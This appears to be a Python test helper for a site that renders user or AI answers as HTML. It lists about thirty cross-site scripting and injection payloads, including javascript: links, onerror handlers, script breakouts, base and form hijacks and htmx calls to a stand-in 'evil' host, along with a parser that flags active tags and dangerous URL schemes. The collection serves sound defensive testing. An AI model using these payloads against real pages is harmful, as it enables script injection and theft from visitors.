"""What people write who want a script to run on somebody else's page, and what of an answer's HTML could run one."""

from __future__ import annotations

from html.parser import HTMLParser

CORPUS = [
    "<img src=x onerror=alert(1)>", "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "![a](javascript:alert(1))",
    "<svg/onload=alert(1)>", "[a](data:text/html;base64,PHNjcmlwdD4=)", "<a href='vbscript:x'>y</a>",
    "[a](<javascript:alert(1)>)", "[a]: javascript:alert(1)\n\n[a]", "<javascript:alert(1)>",
    "`</code><script>alert(1)</script>`", "[x](&#106;avascript:alert(1))", "| <script>a</script> |\n|---|\n| <b onclick=x> |",
    "[a](https://e.org \"\\\" onmouseover=alert(1)\")", "<!--><script>alert(1)</script>-->", "</textarea><script>alert(1)</script>",
    "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "</article><iframe src=//evil>", "{{ 7|add:7 }}{% debug %}",
    "```\n</pre><script>alert(1)</script>\n```", "<style>*{background:url(//evil)}</style>", "<base href=//evil>",
    "\ue0001\ue001<script>alert(1)</script>", "@editor<script>alert(1)</script>", "<form action=//evil><button>x</button></form>",
    "<x hx-get=//evil hx-trigger=load>", "<div data-talk-go=1 hx-on:click=alert(1)>", "[a](https://e.org/\"onclick=alert(1))",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]  # fmt: skip
_ACTIVE = {"script", "iframe", "object", "embed", "base", "style", "svg", "math", "img", "link", "meta", "x"}


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        values = {name: (value or "").strip().lower() for name, value in attrs}
        if tag in _ACTIVE or any(name.startswith(("on", "hx-on")) for name in values):
            self.found.append(f"{tag} {values}")
        for name in ("href", "action", "hx-get", "hx-post", "src"):
            if values.get(name, "").startswith(("javascript", "vbscript", "data", "//")):
                self.found.append(f"{tag} {name}={values[name]}")


def running(html: str) -> list[str]:
    """Return the tags of a part, or of the main part of a page, that could run something or ask another server."""
    tags = _Tags()
    tags.feed(html[max(0, html.find("<main")) :])
    return [each for each in tags.found if not each.startswith("svg {'class': 'icon'")]
